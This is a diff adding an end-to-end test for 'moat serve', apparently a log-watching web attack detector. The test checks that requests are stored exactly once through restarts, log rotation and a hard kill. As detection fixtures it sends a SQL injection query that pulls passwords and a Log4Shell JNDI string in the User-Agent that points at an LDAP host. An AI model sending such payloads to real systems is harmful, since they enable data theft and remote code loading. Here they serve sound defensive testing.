@@ -1,0 +1,94 @@
+/**
+ * `moat serve` end to end: real nginx writes the access log, moat follows it, judges, stores. It is
+ * restarted mid-stream, the log is rotated while it is down, and it is SIGKILLed during heavy
+ * ingestion: every request must be stored exactly once.
+ */
+import { afterAll, describe, expect, test } from "bun:test";
+import { Database } from "bun:sqlite";
+import { appendFileSync, existsSync, renameSync } from "node:fs";
+import { join } from "node:path";
+import { NGINX_BIN, sendRaw, startNginx, waitForLines, type NginxInstance } from "../helpers/nginx.ts";
+import { dbCounts, startServe, waitFor } from "../helpers/serve.ts";
+import { tempDir } from "../helpers/tmp.ts";
+
+const describeNginx = NGINX_BIN ? describe : describe.skip;
+let nginx: NginxInstance | null = null;
+afterAll(() => nginx?.stop());
+
+const get = (port: number, target: string, ua = "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0") =>
+  sendRaw(port, `GET ${target} HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: ${ua}\r\nConnection: close\r\n\r\n`);
+
+describeNginx("moat serve with a real nginx", () => {
+  test("stores every request once across a restart and a rotation, with the reasons of threats", async () => {
+    nginx = await startNginx(`server { listen 127.0.0.1:{{PORT}}; access_log {{PREFIX}}/logs/access.log combined; location / { return 200 "ok\\n"; } }`);
+    const dir = tempDir();
+    const db = join(dir, "moat.db");
+    const log = nginx.path("logs/access.log");
+    let sent = 0;
+    const send = async (target: string, ua?: string) => {
+      await get(nginx!.port, target, ua);
+      sent++;
+    };
+
+    let moat = startServe(["--log", log, "--db", db]);
+    for (let i = 0; i < 30; i++) await send(`/products?id=${i}&color=red`);
+    await send("/search?q=%27%20UNION%20SELECT%20password%20FROM%20users--");
+    await send("/", "${jndi:ldap://198.51.100.7:1389/a}");
+    await waitFor("32 stored requests", () => dbCounts(db).requests === sent);
+
+    const sqlite = new Database(db, { readonly: true });
+    const threat = sqlite.query<{ attack_type: string; reasons: string; endpoint: string }, []>("select attack_type, reasons, endpoint from threats order by id").all();
+    sqlite.close();
+    expect(threat.map((t) => t.attack_type)).toEqual(["sqli", "log4shell"]);
+    expect(JSON.parse(threat[0]!.reasons)[0]).toMatchObject({ field: "query.q", detector: "generic", name: "sqli" });
+    expect(JSON.parse(threat[1]!.reasons)[0]).toMatchObject({ field: "header.user-agent", name: "log4shell" });
+
+    // Graceful stop, requests while down, rotation (rename + reopen) while down, then restart.
+    moat.proc.kill("SIGTERM");
+    await moat.proc.exited;
+    expect(moat.stderr()).toContain("msg=stopped");
+    for (let i = 0; i < 10; i++) await send(`/products?id=${100 + i}&color=blue`);
+    await waitForLines(log, sent);
+    renameSync(log, `${log}.1`);
+    await nginx.reopen();
+    for (let i = 0; i < 10; i++) await send(`/products?id=${200 + i}&color=green`);
+    await waitFor("the new log", () => existsSync(log));
+    moat = startServe(["--log", log, "--db", db]);
+    await waitFor(`${sent} stored requests`, () => dbCounts(db).requests === sent);
+    await Bun.sleep(1500); // a double delivery would show up now
+    expect(dbCounts(db)).toMatchObject({ requests: sent, trafficRows: sent, threats: 2 });
+    moat.proc.kill("SIGTERM");
+    await moat.proc.exited;
+  });
+});
+
+describe("moat serve crash safety", () => {
+  test("SIGKILL during heavy ingestion loses and doubles nothing", async () => {
+    const dir = tempDir();
+    const db = join(dir, "moat.db");
+    const log = join(dir, "access.log");
+    const line = (i: number) => `198.51.100.${i % 250} - - [24/Nov/2026:12:00:00 +0000] "GET /items?id=${i} HTTP/1.1" 200 12 "-" "bench/${i}"\n`;
+    const total = 60_000;
+    let body = "";
+    for (let i = 0; i < total; i++) body += line(i);
+    appendFileSync(log, body);
+    const first = startServe(["--log", log, "--db", db]);
+    await waitFor("ingestion under way", () => dbCounts(db).requests > 2000, 60_000);
+    first.proc.kill("SIGKILL");
+    await first.proc.exited;
+    const atKill = dbCounts(db).requests;
+    expect(atKill).toBeLessThan(total);
+    const second = startServe(["--log", log, "--db", db]);
+    await waitFor(`${total} stored requests`, () => dbCounts(db).requests === total, 120_000);
+    await Bun.sleep(1000);
+    expect(dbCounts(db)).toMatchObject({ requests: total, trafficRows: total });
+    const sqlite = new Database(db, { readonly: true });
+    const integrity = sqlite.query<{ integrity_check: string }, []>("pragma integrity_check").get();
+    const distinct = sqlite.query<{ n: number }, []>("select count(distinct user_agent) as n from traffic").get();
+    sqlite.close();
+    expect(integrity?.integrity_check).toBe("ok");
+    expect(distinct?.n).toBe(total);
+    second.proc.kill("SIGTERM");
+    await second.proc.exited;
+  }, 180_000);
+});
